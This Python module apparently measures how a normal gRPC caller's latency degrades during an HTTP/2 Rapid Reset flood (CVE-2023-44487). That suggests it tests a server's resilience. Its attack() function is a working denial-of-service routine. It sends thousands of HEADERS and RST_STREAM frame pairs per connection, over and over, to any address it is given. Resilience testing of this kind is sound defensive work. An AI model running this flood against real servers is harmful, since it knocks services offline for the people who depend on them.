"""What a caller notices while others open streams and reset them as fast as they can (CVE-2023-44487)."""

import contextlib
import multiprocessing
import socket
import statistics
import time

from idle_streams import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS, field, frame

RST_STREAM = 3
CANCEL = (8).to_bytes(4, "big")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
# More than one connection is allowed before it is ended.
RESETS_PER_CONNECTION = 2_000


def connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def header_block(address: str, path: str) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
    return b"".join(field(*each) for each in [*fields, ("content-type", "application/grpc"), ("te", "trailers")])


def attack(address: str, path: str, seconds: float, told: multiprocessing.Queue) -> None:
    """Opens and resets streams all the time, on as many connections as it takes; tells how many it was let."""
    block = header_block(address, path)
    bytes_of_all = PREFACE + b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1, 2 * RESETS_PER_CONNECTION, 2)
    )
    connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connections += 1
        with connect(address) as connection, contextlib.suppress(OSError):
            connection.sendall(bytes_of_all)
            while connection.recv(65_536):
                pass
    told.put(connections)


class Caller:
    """One call after the other on one connection, each begun a millisecond after the last one ended."""

    def __init__(self, address: str, path: str, message: bytes):
        self.socket = connect(address)
        self.block = header_block(address, path)
        self.message = message
        self.stream = 1
        self.received = b""
        self.socket.sendall(PREFACE)

    def call(self) -> float:
        """How long it took, in seconds."""
        began = time.perf_counter()
        request = frame(HEADERS, END_HEADERS, self.stream, self.block)
        self.socket.sendall(request + frame(DATA, END_STREAM, self.stream, self.message))
        while not self._is_answered():
            part = self.socket.recv(65_536)
            if not part:
                raise SystemExit("the server closed a good caller's connection")
            self.received += part
        self.stream += 2
        return time.perf_counter() - began

    def _is_answered(self) -> bool:
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                return False
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            self.received = self.received[end:]
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, ACK, 0))
            if stream == self.stream and (flags & END_STREAM or kind == RST_STREAM):
                return True
        return False

    def times(self, count: int | None = None, until: multiprocessing.Process | None = None) -> list[float]:
        found = []
        while len(found) < count if count else until.is_alive():
            found.append(self.call())
            time.sleep(0.001)
        return found


def percentile(times: list[float], of: float) -> float:
    return statistics.quantiles(times, n=1000, method="inclusive")[round(of * 1000) - 1]


def measure(address: str, path: str, message: bytes, seconds: float) -> tuple[list[float], list[float], int]:
    """Times of calls before and during an attack, and how many connections the attacker lost."""
    caller = Caller(address, path, message)
    caller.times(count=500)
    normal = caller.times(count=3_000)
    context = multiprocessing.get_context("spawn")
    told = context.Queue()
    attacker = context.Process(target=attack, args=(address, path, seconds, told))
    attacker.start()
    attacked = caller.times(until=attacker)
    if attacker.exitcode:
        raise SystemExit("the attacker failed")
    return normal, attacked, told.get(timeout=10)
